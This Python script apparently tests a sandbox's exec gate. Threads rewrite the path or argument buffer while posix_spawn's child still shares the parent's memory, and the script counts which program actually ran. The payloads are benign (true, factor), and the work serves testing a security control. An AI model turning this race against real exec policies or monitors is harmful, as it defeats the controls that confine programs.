# Attacks on the exec gate, run inside a compartment. `race.py path|argv SECONDS`: a thread writes another path, or other arguments, into
# the memory that an exec is just being made from. Prints how often each program came to run.
import ctypes, os, sys, threading, time

libc = ctypes.CDLL(None, use_errno=True)
what, seconds = sys.argv[1], float(sys.argv[2])
GOOD, BAD = (b"/usr/bin/true\0\0\0", b"/usr/bin/factor\0") if what == "path" else (b"14\0", b"15\0")
shared = ctypes.create_string_buffer(64)
stop = False

def flip():
    turn = 0
    while not stop:
        value = GOOD if turn & 1 else BAD
        ctypes.memmove(shared, value, len(value))
        turn += 1
        if turn % 64 == 0:
            time.sleep(0)

threads = [threading.Thread(target=flip, daemon=True) for _ in range(2)]
sys.setswitchinterval(0.00001)
for t in threads:
    t.start()

argv = (ctypes.c_char_p * 3)()
argv[0] = b"factor"
words = (ctypes.c_void_p * 3)(ctypes.cast(ctypes.c_char_p(b"factor"), ctypes.c_void_p).value, ctypes.addressof(shared) if what == "argv" else ctypes.cast(ctypes.c_char_p(b"15"), ctypes.c_void_p).value, None)
path = ctypes.addressof(shared) if what == "path" else ctypes.cast(ctypes.c_char_p(b"/usr/bin/factor"), ctypes.c_void_p).value
env = (ctypes.c_char_p * 1)(None)
libc.vfork.restype = ctypes.c_int
tries = {"none": 0, "14": 0, "15": 0, "other": 0}
end = time.time() + seconds
count = 0
while time.time() < end:
    r, w = os.pipe()
    # posix_spawn: the child runs in our memory until it has executed (CLONE_VM | CLONE_VFORK), so the threads write what it reads
    actions = ctypes.create_string_buffer(256)
    libc.posix_spawn_file_actions_init(actions)
    libc.posix_spawn_file_actions_adddup2(actions, w, 1)
    null = os.open("/dev/null", os.O_WRONLY)
    libc.posix_spawn_file_actions_adddup2(actions, null, 2)
    pid = ctypes.c_int()
    failed = libc.posix_spawn(ctypes.byref(pid), ctypes.c_void_p(path), actions, None, words, env)
    os.close(w)
    os.close(null)
    said = b""
    if failed == 0:
        while True:
            some = os.read(r, 4096)
            if not some:
                break
            said += some
        os.waitpid(pid.value, 0)
    os.close(r)
    count += 1
    text = said.decode(errors="replace")
    tries["14" if text.startswith("14:") else "15" if text.startswith("15:") else "other" if text else "none"] += 1
stop = True
print(count, tries["14"], tries["15"], tries["other"], flush=True)
